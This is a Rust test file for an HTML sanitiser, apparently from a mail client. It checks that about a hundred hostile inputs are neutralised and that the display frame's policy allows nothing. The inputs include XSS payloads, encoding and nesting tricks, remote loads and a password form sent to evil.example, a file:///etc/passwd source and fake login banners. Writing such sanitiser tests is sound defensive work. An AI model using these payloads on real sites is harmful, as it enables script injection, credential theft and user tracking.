//! Hostile HTML: nothing of it may run, load, ask, cover or look like ours.

use proptest::prelude::*;

use super::tokens::{Token, Tokens};
use super::*;

/// Holds what must be true of any HTML that is shown, by reading it tag by tag.
pub fn assert_safe(html: &str) {
    for token in Tokens::new(html) {
        let Token::Open(name, attributes) = token else {
            continue;
        };
        assert!(
            tidy::ELEMENTS.contains(&name.as_str()),
            "<{name}> in {html}"
        );
        for (attribute, value) in attributes {
            let known = ATTRIBUTES.contains(&attribute.as_str())
                || ["target", "rel"].contains(&attribute.as_str())
                || ELEMENT_ATTRIBUTES.iter().any(|(element, names)| {
                    *element == name && names.contains(&attribute.as_str())
                });
            assert!(known, "{attribute} in {html}");
            let value = value.to_ascii_lowercase();
            match attribute.as_str() {
                "href" => assert!(
                    ["http:", "https:", "mailto:", "tel:"]
                        .iter()
                        .any(|s| value.starts_with(s)),
                    "{value}"
                ),
                "src" => assert!(
                    value.starts_with("https:")
                        || RASTER_TYPES
                            .iter()
                            .any(|t| value.starts_with(&format!("data:{t};base64,"))),
                    "{value}"
                ),
                "style" => assert!(
                    !value.contains("url")
                        && !value.contains("expression")
                        && !value.contains("position"),
                    "{value}"
                ),
                "target" => assert_eq!(value, "_blank"),
                _ => {}
            }
        }
    }
    let lower = html.to_ascii_lowercase();
    for never in [
        "<script", "<style", "<iframe", "<object", "<embed", "<base", "<meta", "<link", "<form",
        "<input", "<button", "<svg", "<math", "<!--", "<body", "<html",
    ] {
        assert!(!lower.contains(never), "{never} in {html}");
    }
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror\n=\n\"alert(1)\">",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=\"jav\tascript:alert(1)\">",
    "<img src=\"&#106;avascript:alert(1)\">",
    "<img src=`javascript:alert(1)`>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html,<script>1</script>'>",
    "<img src='data:image/png;base64,AA\"onload=alert(1)'>",
    "<img srcset='https://evil.example/a 1x' src>",
    "<img dynsrc='javascript:alert(1)' lowsrc='javascript:alert(1)'>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=\\\\evil.example\\a>",
    "<img src=http://evil.example/pixel.gif>",
    "<img src=file:///etc/passwd>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://x.example/1'>x</a>",
    "<a href=/mail/logout>x</a>",
    "<a href='#content' onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a href=https://evil.example target=_top rel=opener>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Set-Cookie content=a=b>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<div style='background:url(https://evil.example/a)'>x</div>",
    "<div style='background-image:\\75rl(https://evil.example)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='-moz-binding:url(x);behavior:url(x)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999;background-color:white'>x</div>",
    "<div style=\"color:red;}</style><script>alert(1)</script>\">x</div>",
    "<body background=https://evil.example/a onload=alert(1)>x</body>",
    "<table background=https://evil.example/a><td background=javascript:alert(1)>x</table>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/html data=https://evil.example><embed src=https://evil.example></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x archive=https://evil.example></applet>",
    "<audio src=https://evil.example onerror=alert(1)></audio>",
    "<video poster=https://evil.example><source src=https://evil.example onerror=alert(1)></video>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>Log in</button></form>",
    "<input type=image src=https://evil.example onfocus=alert(1) autofocus>",
    "<isindex action=javascript:alert(1) type=image>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea><script>1</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<title></title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<div class='banner down' id=banner role=alert aria-live=assertive>Mail system is down, log in again</div>",
    "<p id=main name=main class=skip>x</p>",
    "<p\0onclick=alert(1)>x</p>",
    "<p/onclick=alert(1)/style=position:fixed>x</p>",
    "<p \u{202e}onclick=alert(1)>\u{202e}x</p>",
    "<a href=\"https://evil.example\" title=\"\u{202e}elpmaxe\">x</a>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "<b <script>alert(1)</script>>x</b>",
    "<<script>alert(1)//<</script>",
    "<dialog open><p>Your session ended</p></dialog>",
    "<portal src=https://evil.example></portal>",
    "<a ping=https://evil.example href=https://x.example>x</a>",
    "<img usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>",
    "<p dir=ltr lang='\"><img onerror=1>'>x</p>",
    "<td><script>alert(1)</script></td><tr><col onclick=x>",
    "<slot onslotchange=alert(1)></slot><custom-element onclick=1>x</custom-element>",
];

#[test]
fn hostile_html_runs_nothing_loads_nothing_and_looks_like_nothing_of_ours() {
    for hostile in HOSTILE {
        for html in [
            (*hostile).to_owned(),
            format!("<table><tr><td>{hostile}</td></tr></table>"),
            format!("<p>before {hostile} after"),
            format!("<b><i><div {hostile}"),
            hostile.to_uppercase(),
        ] {
            let cleaned = clean(&html, &InlineImages::default(), false);
            assert_safe(cleaned.html.as_str());
            assert!(!cleaned.html.as_str().contains("src=\"https"), "{html}");
            assert_safe(clean(&html, &InlineImages::default(), true).html.as_str());
        }
    }
    assert!(HOSTILE.len() > 90);
}

#[test]
fn what_people_write_looks_as_it_was_meant() {
    let shown = |html: &str| {
        clean(html, &InlineImages::default(), false)
            .html
            .as_str()
            .to_owned()
    };
    assert_eq!(
        shown("<p>a <b>b</b> &lt; c &amp; d</p>"),
        "<p>a <b>b</b> &lt; c &amp; d</p>"
    );
    assert_eq!(shown("a < b"), "a &lt; b");
    assert_eq!(
        shown("<a href='https://a.example/?x=1&amp;y=2'>x</a>"),
        "<a href=\"https://a.example/?x=1&amp;y=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>"
    );
    assert_eq!(
        shown("<table><tr><td bgcolor='#ffffff' style='color:red'>a<td>b<tr><td>c</table>d"),
        "<table><tbody><tr><td bgcolor=\"#ffffff\" style=\"color:red\">a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>d"
    );
    assert_eq!(
        shown("<ul><li>a<li>b<ul><li>c</ul></ul>"),
        "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"
    );
    assert_eq!(
        shown("<p>a<p>b<div>c</div>"),
        "<p>a</p><p>b</p><div>c</div>"
    );
    assert_eq!(shown("<b>a<i>b</b>c</i>"), "<b>a<i>b</i></b>c");
    assert_eq!(shown("<style>x</style><!-- y --><p>z"), "<p>z</p>");
}

#[test]
fn images_are_shown_where_they_were_sent_along_or_asked_for() {
    let mut images = InlineImages::default();
    images.add("a@b", "image/png", 3, || vec![1, 2, 3]);
    images.add("s", "image/svg+xml", 3, || vec![1, 2, 3]);
    images.add("big", "image/png", u64::MAX, || unreachable!("is not read"));
    let html =
        "<img src=cid:a%40b alt=x><img src=cid:s><img src=cid:big><img src=https://a.example/i>";
    let cleaned = clean(html, &images, false);
    assert_eq!(
        cleaned.html.as_str(),
        "<img src=\"data:image/png;base64,AQID\" alt=\"x\"><img><img><img>"
    );
    assert!(cleaned.had_remote_images);
    assert!(!clean("<img src=cid:x>", &images, false).had_remote_images);
}

#[test]
fn clever_nesting_stays_small_and_quick() {
    let many = |piece: &str, count: usize| piece.repeat(count / 4);
    for html in [
        many("<div>", 200_000),
        (0..5_000)
            .map(|n| format!("<font color={n}>"))
            .collect::<String>()
            + &many("<p>x", 20_000),
        many("<table><tr><td>", 60_000),
        many("<table><b>", 60_000),
        many("<a href=x><b>", 50_000),
        many("<svg>", 200_000),
        many("<p><b><i><u>", 50_000) + &many("<div>x</div>", 50_000),
        many("</b></i>", 100_000),
        many("<!-", 300_000),
        many("<x a='", 100_000),
        many("&", 1_000_000),
        many("<b ", 300_000),
    ] {
        let cleaned = clean(&html, &InlineImages::default(), false);
        assert!(
            cleaned.html.as_str().len() < 8 * html.len() + 10_000,
            "{}",
            html.get(..20).unwrap()
        );
    }
}

#[test]
fn the_frame_s_document_allows_nothing() {
    let page = document(
        &clean("<p>x</p>", &InlineImages::default(), false).html,
        "it",
        "a <b>",
    );
    assert!(
        page.contains("<html lang=\"it\" dir=\"auto\">")
            && page.contains("<title>a &lt;b&gt;</title>")
    );
    assert!(page.ends_with("<body><p>x</p></body></html>"));
    let policy = frame_policy(false);
    assert!(policy.starts_with("default-src 'none'; ") && policy.contains("sandbox allow-popups"));
    for never in [
        "allow-scripts",
        "allow-same-origin",
        "allow-forms",
        "https:",
        "*",
    ] {
        assert!(!policy.contains(never), "{never}");
    }
    assert!(frame_policy(true).contains("img-src data: https:;"));
}

proptest! {
    #[test]
    fn no_html_is_shown_that_is_not_safe(
        html in "(<(/?(script|style|svg|math|table|td|tr|p|b|a|img|div|form|select|template|textarea|li|caption|col)|!--|!|\\?)[ /\n]?((on[a-z]{1,4}|href|src|style|id|class|xlink:href)=[\"'`]?(javascript:|https:|data:image/png;base64,|url\\()?[a-z\"'<>&;]{0,6}[\"']? ?){0,3}[>/]?|-->|]]>|\\PC{0,5}|&[#a-z0-9]{0,6};?){0,40}",
    ) {
        assert_safe(clean(&html, &InlineImages::default(), true).html.as_str());
        let _ = to_text(&html);
    }
}
